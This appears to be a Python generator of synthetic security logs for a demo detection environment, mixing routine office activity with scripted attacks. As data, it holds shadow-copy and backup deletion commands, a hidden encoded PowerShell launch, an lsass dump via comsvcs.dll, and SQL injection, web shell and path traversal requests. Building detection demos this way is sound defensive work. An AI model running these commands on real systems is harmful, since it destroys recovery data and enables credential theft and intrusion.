"""A scripted fortnight of benign and hostile events, of our own writing, for the demo province.

Addresses are of the documentation ranges; hosts, accounts and sites are made up.
"""

import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any, Final

SYSMON: Final = "Microsoft-Windows-Sysmon/Operational"
SECURITY: Final = "Security"
DAYS: Final = 14
QUIET_UNITS: Final = ("XA07", "XA19", "XA23", "XA38", "CTMT")
NEVER_UNITS: Final = ("XA31", "XA32", "XA40", "XA41", "XA42", "XA43", "XA44")

_PROGRAMS: Final = (
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\services.exe",
        "svchost.exe -k netsvcs",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r"C:\Windows\explorer.exe",
        "WINWORD.EXE /n cong-van.docx",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"C:\Windows\explorer.exe",
        "chrome.exe --type=renderer",
    ),
    (r"C:\Windows\System32\taskhostw.exe", r"C:\Windows\System32\svchost.exe", "taskhostw.exe"),
    (r"C:\Program Files\Unikey\UniKeyNT.exe", r"C:\Windows\explorer.exe", "UniKeyNT.exe"),
)


def benign(
    unit: str, day: datetime, chance: random.Random
) -> Iterator[tuple[datetime, dict[str, Any]]]:
    """Yield (instant, event) of one unit's quiet day, told by the instant of its midnight."""
    for _ in range(chance.randint(14, 26)):
        at = day + timedelta(
            hours=chance.choice((7, 8, 9, 10, 13, 14, 15, 16)), seconds=chance.randint(0, 3599)
        )
        host = f"{unit}-PC-{chance.randint(1, 9):03d}"
        image, parent, line = chance.choice(_PROGRAMS)
        kind = chance.random()
        if kind < 0.6:
            yield at, process(at, host, image=image, parent=parent, line=line, user="canbo")
        elif kind < 0.85:
            found = logon(
                at,
                host,
                user=f"canbo{chance.randint(1, 9)}",
                address=f"10.{chance.randint(1, 60)}.0.{chance.randint(2, 250)}",
            )
            yield at, found
        else:
            found = sysmon(
                at,
                host,
                22,
                QueryName=chance.choice(
                    ("dichvucong.gov.vn", "mail.tinhmau.gov.vn", "www.google.com")
                ),
                Image=image,
            )
            yield at, found


def hostile(start: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield (unit, event) of the attacks of the fortnight, each told in its place below."""
    yield from _ransomware(start + timedelta(days=12, hours=8, minutes=12))
    yield from _macro(start + timedelta(days=3, hours=2, minutes=31))
    yield from _credentials(start + timedelta(days=6, hours=7, minutes=5))
    yield from _usb(start + timedelta(days=9, hours=3))
    yield from _remote_tool(start + timedelta(days=10, hours=6))
    yield from _log_cleared(start + timedelta(days=13, hours=1, minutes=40))


def web_lines(start: datetime) -> list[str]:
    """Return access lines of a commune's site: visitors, a scan, a web shell, gambling links."""
    lines = []
    for step in range(120):
        at = start + timedelta(days=11, minutes=step * 7)
        lines.append(_access(at, "198.51.100.7", "GET", f"/tin-tuc/{step}", 200, "Mozilla/5.0"))
    night = start + timedelta(days=11, hours=15)
    lines += [
        _access(
            night,
            "203.0.113.45",
            "GET",
            "/tin-tuc?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            200,
            "sqlmap/1.7",
        ),
        _access(
            night + timedelta(minutes=3),
            "203.0.113.45",
            "POST",
            "/upload/anh/cmd.aspx?cmd=whoami",
            200,
            "Mozilla/5.0",
        ),
        _access(
            night + timedelta(minutes=9), "203.0.113.45", "GET", "/../../etc/passwd", 400, "curl/8"
        ),
        _access(
            night + timedelta(minutes=30),
            "192.0.2.66",
            "GET",
            "/nha-cai-uy-tin/ca-cuoc-bong-da.html",
            200,
            "Googlebot/2.1",
        ),
    ]
    return lines


def ssh_lines(start: datetime) -> list[str]:
    """Return lines of a server's sshd: a brute force from outside that gets in as root."""
    at = start + timedelta(days=8, hours=19)
    lines = []
    for step in range(40):
        moment = at + timedelta(seconds=step * 4)
        lines.append(
            f"{moment:%b %d %H:%M:%S} skhcn-web01 sshd[{2100 + step}]: Failed password for root from 203.0.113.99 port {41000 + step} ssh2"
        )
    moment = at + timedelta(minutes=5)
    lines.append(
        f"{moment:%b %d %H:%M:%S} skhcn-web01 sshd[2301]: Accepted password for root from 203.0.113.99 port 41999 ssh2"
    )
    return lines


def firewall_lines(start: datetime) -> list[str]:
    """Return lines of a department's firewall: its administrator by day, a stranger by night."""
    morning, night = start + timedelta(days=7, hours=2), start + timedelta(days=7, hours=18)
    return [
        _firewall(morning, "Admin login successful", "10.3.0.15"),
        *[
            _firewall(night + timedelta(seconds=20 * step), "Admin login failed", "203.0.113.71")
            for step in range(6)
        ],
        _firewall(night + timedelta(minutes=4), "Admin login successful", "203.0.113.71"),
    ]


def process(
    at: datetime, host: str, *, image: str, parent: str, line: str, user: str
) -> dict[str, Any]:
    """Return a Sysmon process creation."""
    return sysmon(
        at,
        host,
        1,
        Image=image,
        ParentImage=parent,
        CommandLine=line,
        User=f"TINHMAU\\{user}",
        OriginalFileName=image.rpartition("\\")[2],
        IntegrityLevel="Medium",
        ParentCommandLine=parent,
    )


def sysmon(at: datetime, host: str, event: int, **fields: Any) -> dict[str, Any]:
    """Return a Sysmon event as NXLog writes it."""
    return {
        "EventTime": f"{at:%Y-%m-%d %H:%M:%S}",
        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S}.{at.microsecond // 1000:03d}",
        "EventID": event,
        "Channel": SYSMON,
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": f"{host}.tinhmau.gov.vn",
        **fields,
    }


def logon(at: datetime, host: str, *, user: str, address: str, event: int = 4624) -> dict[str, Any]:
    """Return a Windows log-on, done (4624) or failed (4625)."""
    return security(
        at,
        host,
        event,
        TargetUserName=user,
        IpAddress=address,
        LogonType=3,
        LogonProcessName="NtLmSsp",
    )


def security(at: datetime, host: str, event: int, **fields: Any) -> dict[str, Any]:
    """Return a Windows Security event as NXLog writes it."""
    return {
        "EventTime": f"{at:%Y-%m-%d %H:%M:%S}",
        "@timestamp": f"{at:%Y-%m-%dT%H:%M:%S}Z",
        "EventID": event,
        "Channel": SECURITY,
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": f"{host}.tinhmau.gov.vn",
        **fields,
    }


def _ransomware(at: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    host, unit = "XA12-PC-004", "XA12"
    dropper = r"C:\Users\canbo\AppData\Local\Temp\update_kb.exe"
    for step, line in enumerate(
        (
            "vssadmin.exe delete shadows /all /quiet",
            "wmic shadowcopy delete",
            "bcdedit /set {default} recoveryenabled no",
            "wbadmin delete catalog -quiet",
        )
    ):
        image = rf"C:\Windows\System32\{line.split()[0].removesuffix('.exe')}.exe"
        yield (
            unit,
            process(
                at + timedelta(seconds=20 * step),
                host,
                image=image,
                parent=dropper,
                line=line,
                user="canbo",
            ),
        )
    for number in range(6):
        yield (
            unit,
            sysmon(
                at + timedelta(minutes=2, seconds=number),
                host,
                11,
                Image=dropper,
                TargetFilename=rf"C:\Users\canbo\Documents\HoSo{number}\README_GIAI_MA.txt",
            ),
        )


def _macro(at: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    line = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
    yield "XA05", process(at, "XA05-PC-002", image=shell, parent=word, line=line, user="vanthu")
    yield (
        "XA05",
        sysmon(
            at + timedelta(seconds=8),
            "XA05-PC-002",
            3,
            Image=shell,
            DestinationIp="203.0.113.10",
            DestinationPort="443",
            Initiated="true",
        ),
    )


def _credentials(at: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    line = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full"
    run = r"C:\Windows\System32\rundll32.exe"
    yield (
        "STC",
        process(
            at,
            "STC-SRV-01",
            image=run,
            parent=r"C:\Windows\System32\cmd.exe",
            line=line,
            user="admin",
        ),
    )
    yield (
        "STC",
        sysmon(
            at + timedelta(seconds=2),
            "STC-SRV-01",
            10,
            SourceImage=run,
            TargetImage=r"C:\Windows\System32\lsass.exe",
            GrantedAccess="0x1fffff",
            CallTrace="dbgcore.dll",
        ),
    )
    for step in range(30):
        yield (
            "STC",
            logon(
                at - timedelta(minutes=30, seconds=-step),
                "STC-SRV-01",
                user="administrator",
                address="10.9.0.44",
                event=4625,
            ),
        )


def _usb(at: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    yield (
        "XA21",
        process(
            at,
            "XA21-PC-001",
            image=r"E:\RECYCLER\autorun.exe",
            parent=r"C:\Windows\explorer.exe",
            line=r"E:\RECYCLER\autorun.exe",
            user="canbo",
        ),
    )
    yield (
        "XA21",
        sysmon(
            at + timedelta(seconds=4),
            "XA21-PC-001",
            13,
            Image=r"E:\RECYCLER\autorun.exe",
            TargetObject=r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\updater",
            Details=r"C:\Users\Public\updater.exe",
            EventType="SetValue",
        ),
    )


def _remote_tool(at: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    yield (
        "XA16",
        process(
            at,
            "XA16-PC-003",
            image=r"C:\Users\canbo\Downloads\UltraViewer_setup.exe",
            parent=r"C:\Windows\explorer.exe",
            line="UltraViewer_setup.exe /silent",
            user="canbo",
        ),
    )


def _log_cleared(at: datetime) -> Iterator[tuple[str, dict[str, Any]]]:
    yield (
        "XA12",
        {
            **security(at, "XA12-PC-004", 1102, SubjectUserName="canbo"),
            "SourceName": "Microsoft-Windows-Eventlog",
        },
    )


def _access(at: datetime, client: str, method: str, target: str, status: int, agent: str) -> str:
    stamp = f"{at:%d/%b/%Y:%H:%M:%S} +0000"
    return f'{client} - - [{stamp}] "{method} {target} HTTP/1.1" {status} 5120 "-" "{agent}"'


def _firewall(at: datetime, what: str, address: str) -> str:
    return (
        f'<189>date={at:%Y-%m-%d} time={at:%H:%M:%S} devname="SKHCN-FW" type="event" '
        f'subtype="system" level="notice" logdesc="{what}" user="admin" ui="https({address})" '
        f'srcip={address} action="login"'
    )
